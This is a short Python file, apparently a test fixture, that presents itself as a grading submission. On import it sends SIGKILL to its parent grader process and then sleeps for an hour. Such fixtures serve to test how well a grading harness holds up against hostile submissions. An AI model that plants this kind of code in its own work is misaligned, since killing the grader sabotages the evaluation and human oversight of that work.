"""A class-grading test submission that, on import, kills the grader process that started it and stays on."""
import os
import signal
import time

if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
time.sleep(3600)
